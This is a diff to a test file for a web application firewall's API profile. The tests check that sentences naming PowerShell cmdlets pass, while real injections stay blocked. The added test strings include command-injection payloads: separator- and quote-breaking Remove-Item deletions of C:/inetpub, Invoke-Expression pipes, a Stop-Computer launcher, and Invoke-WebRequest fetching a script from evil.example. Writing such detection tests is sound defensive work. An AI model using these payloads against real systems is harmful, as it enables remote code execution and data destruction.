@@ -1,13 +1,13 @@
 /**
- * Session 4 false-positive classes of the API profile's prose handling (src/waf/profile/view.ts families `c` and
- * `q`), through the real `waf` policy and CRS v4.28.0: each clean class passes the API profile (CRS blocks it),
+ * Session 4 false-positive classes of the API profile's prose handling (src/waf/profile/view.ts families `c`, `p`
+ * and `q`), through the real `waf` policy and CRS v4.28.0: each clean class passes the API profile (CRS blocks it),
  * and the equivalent real attack, in the same place, is still blocked.
  */
 import assert from 'node:assert/strict';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import { MARKDOWN_TEXT_SUFFIX } from '../../waf/profile/expand.ts';
-import { markdownCodeText, proseQuotesInert, proseWaivers } from '../../waf/profile/view.ts';
+import { markdownCodeText, powershellInert, proseQuotesInert, proseWaivers } from '../../waf/profile/view.ts';
 import { fakeDeps, fakeRequestContext, instantiate, runRequest } from '../testing.ts';
 import { policy } from './policy.ts';
 
@@ -134,5 +134,78 @@ describe('waf API profile: SQL keywords in prose, quoted or not (family q)', () 
     assert.equal(proseWaivers("use 'or' here", 2).includes('q'), false);
     assert.equal(proseWaivers("use 'or' here now please", 2).includes('q'), true);
     assert.equal(proseWaivers('try `ping` it', 2).includes('c'), false);
+  });
+});
+
+describe('waf API profile: PowerShell cmdlet names in sentences (family p)', () => {
+  test('prose naming a cmdlet passes; CRS blocks it (932120)', async () => {
+    for (const body of [
+      'Dit werkt niet op Windows: `rm` bestaat daar niet, gebruik `Remove-Item`.',
+      'On Windows agents use Get-ChildItem instead of ls, the output differs slightly.',
+      'The migration guide says Invoke-WebRequest replaces curl on the Windows runners.',
+    ]) {
+      assert.equal((await run(plain, { body })).error?.reason, 'waf:rce', body);
+      assert.equal((await run(api, { body })).error, undefined, body);
+    }
+    // GraphQL variables are JSON values too.
+    const gql = {
+      query: 'mutation Note($body: String!) { createNote(input: { body: $body }) { errors } }',
+      variables: { body: 'Dit werkt niet op Windows: `rm` bestaat daar niet, gebruik `Remove-Item`.' },
+    };
+    assert.equal((await run(api, gql)).error, undefined);
+  });
+
+  test('a cmdlet that can run is still blocked: separators, subexpressions, quotes, first word, launchers', async () => {
+    for (const body of [
+      'Hi team, ; Remove-Item -Recurse -Force C:/inetpub thanks a lot',
+      'Hi team, | Invoke-Expression thanks a lot for the help today',
+      'Hello there, please look at this for me: $(Invoke-WebRequest http://evil.example/a.ps1)',
+      'Hi team, & Start-Process calc.exe thanks a lot for the help',
+      "Hi team, ' + (Invoke-WebRequest http://evil.example) + ' thanks a lot",
+      'Hi team, the fix is easy\nRemove-Item C:/inetpub/wwwroot/web.config\nthanks a lot',
+      'Hi team, \u201d; Remove-Item C:/inetpub; \u201c thanks a lot',
+      'Invoke-WebRequest http://evil.example/a.ps1 is what I typed into the box',
+      'powershell Invoke-WebRequest evil.example is what I typed into the box',
+      'cmd /c powershell Stop-Computer now please folks',
+      'Hi team, %COMSPEC% /c Remove-Item everything thanks a lot',
+      'Hi team, @(Get-Process) thanks a lot for the quick help',
+    ]) {
+      const r = await run(api, { body });
+      assert.equal(r.error?.reason, 'waf:rce', body);
+    }
+  });
+
+  test('powershellInert: a cmdlet name as an argument of an ordinary first word, without syntax', () => {
+    assert.equal(powershellInert('On Windows use `Remove-Item` instead of rm.'), true);
+    assert.equal(powershellInert('Windows users: open C:\\Program Files\\Acme and run setup.exe.'), true);
+    for (const t of [
+      'Remove-Item the build folder before you start again',
+      '  "Remove-Item" the build folder',
+      'powershell is how I run Get-Process here',
+      'PWSH then Get-Process please',
+      'iex Get-Process thanks a lot',
+      'start Stop-Computer please now',
+      'use Get-Process; then Stop-Process',
+      'use Get-Process | Stop-Process',
+      'say $env:PATH please',
+      'it’s Get-Process now',
+      'a\rGet-Process',
+      '',
+    ])
+      assert.equal(powershellInert(t), false, t);
+  });
+
+  test('family p needs four words and is never granted in a query string', async () => {
+    assert.equal(proseWaivers('use Get-Process now'), '');
+    assert.ok(proseWaivers('please use Get-Process now').includes('p'));
+    const deps = fakeDeps('waf@route:test');
+    const ctx = fakeRequestContext({
+      method: 'GET',
+      path: '/api/search',
+      query: 'q=please+use+Get-Process+instead',
+      headers: ua,
+    });
+    const { error } = await runRequest(instantiate(policy, api, deps), ctx);
+    assert.equal(error?.reason, 'waf:rce');
   });
 });
